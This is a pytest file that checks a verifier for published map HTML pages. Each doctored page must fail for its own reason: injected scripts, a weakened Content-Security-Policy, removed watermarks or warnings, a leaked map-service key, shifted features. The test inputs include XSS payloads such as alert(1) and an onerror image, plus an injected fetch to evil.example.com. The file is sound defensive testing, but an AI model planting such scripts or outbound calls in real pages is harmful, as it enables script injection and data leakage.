"""The check of finished pages: a right one passes, each of the doctored ones fails for its own reason."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import shapely

from spatial.catalog import load_workspace
from spatial.publish.compose import compose
from spatial.publish.model import Layer, Publication
from spatial.publish.page import page_text
from spatial.publish.recipe import read_recipe
from spatial.publish.sources.registry import SOURCES
from spatial.publish.sources.scene import Scene
from spatial.publish.verify import verify

ROOT = Path(__file__).parents[2]


@pytest.fixture(scope="module")
def right() -> Publication:
    options = {name: source.options for name, source in SOURCES.items()}
    scene = Scene(load_workspace(ROOT / "layers" / "shangdang"), dt.date(2026, 1, 1), "zh")
    return compose(read_recipe(ROOT / "maps" / "pattern.toml", options), scene, public=True).publication


@pytest.fixture(scope="module")
def page(right: Publication) -> str:
    return page_text(right)


def faults(text: str, folder: Path) -> list[str]:
    path = folder / "map.html"
    path.write_text(text, encoding="utf-8", newline="\n")
    return [finding.code for finding in verify(path)]


def test_a_right_page_passes(page, tmp_path):
    assert faults(page, tmp_path) == []


def swapped(old: str, new: str) -> Callable[[str], str]:
    def swap(text: str) -> str:
        assert old in text
        return text.replace(old, new, 1)

    return swap


@pytest.mark.parametrize(
    ("doctor", "code"),
    [
        (swapped("</body>", "<script>alert(1)</script></body>"), "verify_script"),
        (swapped("ecopattern.start(", "fetch('//evil.example.com');ecopattern.start("), "verify_script"),
        (swapped("default-src 'none'", "default-src *"), "verify_policy"),
        (swapped("script-src ", "script-src 'unsafe-inline' "), "verify_policy"),
        (swapped("img-src data:", "img-src https://tiles.example.com data:"), "verify_policy"),
        (swapped('http-equiv="Content-Security-Policy"', 'name="no"'), "verify_policy_count"),
        (swapped("<header", '<img src="https://example.com/a.png" onerror="alert(1)"><header'), "verify_attribute"),
        (swapped("</body>", '<script type="application/json" id="more">{}</script></body>'), "verify_block"),
        (swapped('"audience":"public"', '"audience":"office"'), "verify_audience"),
        (swapped('"watermark":"内部使用 未经审核 不得公开"', '"watermark":""'), "verify_watermark"),
        (swapped("</head>", "<style>.ep-watermark{display:none}</style></head>"), "verify_style"),
        (swapped('<p class="warn">内部使用，未经审图。', '<p class="warn">'), "verify_line"),
        (swapped('id="ep-page"', 'id="ep-pages"'), "verify_unreadable"),
        (lambda text: text.replace("含示意数据（示意图），不得作为审批依据。", ""), "verify_line"),
        (lambda text: text.replace("2000国家大地坐标系", "坐标系"), "verify_line"),
        (lambda text: text.replace("（示意图）", ""), "verify_sketch"),
        (swapped('"tolerance_m":"50"', '"tolerance_m":"5"'), "verify_tolerance"),
        (swapped("</body>", "<!-- https://t0.tianditu.gov.cn/?x=1&tk=abcdef0123456789 --></body>"), "verify_key"),
    ],
)
def test_a_doctored_page_fails_for_its_reason(page, doctor, code, tmp_path):
    assert code in faults(doctor(page), tmp_path)


def changed(right: Publication, change: Callable[[Layer], Layer]) -> str:
    return page_text(replace(right, layers=(*right.layers[:-1], change(right.layers[-1]))))


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (lambda layer: replace(layer, role="ECO_RED"), "verify_role"),
        (lambda layer: replace(layer, role="NO_SUCH_ROLE"), "verify_role"),
        (lambda layer: replace(layer, note=""), "verify_source"),
        (
            lambda layer: replace(layer, rows=tuple(("一号取水口", *row[1:]) for row in layer.rows)),
            "verify_feature",
        ),
        (
            lambda layer: replace(
                layer, columns=tuple(replace(one, key=f"x_{one.key}") for one in layer.columns), name_key=""
            ),
            "verify_column",
        ),
        (
            lambda layer: replace(layer, shapes=shapely.transform(layer.shapes, lambda xy: xy + 3e-4)),
            "verify_positions",
        ),
    ],
)
def test_layers_that_must_not_be_there(right, change, code, tmp_path):
    assert code in faults(changed(right, change), tmp_path)


def test_a_reviewed_map_needs_its_number_on_the_map(right, tmp_path):
    facts = tuple((key, "晋S（2026）001号" if key == "approval" else value) for key, value in right.facts)
    reviewed = replace(right, facts=facts, watermark="")
    assert "verify_approval" in faults(page_text(reviewed), tmp_path)
    lines = (*right.lines, ("审图号：晋S（2026）001号。", False))
    assert faults(page_text(replace(reviewed, lines=lines)), tmp_path) == []


def test_another_file_is_no_page(tmp_path):
    assert "verify_unreadable" in faults("<html><body>hello</body></html>", tmp_path)
    (tmp_path / "b.html").write_bytes(np.arange(256, dtype=np.uint8).tobytes())
    assert [finding.code for finding in verify(tmp_path / "b.html")] == ["verify_unreadable"]
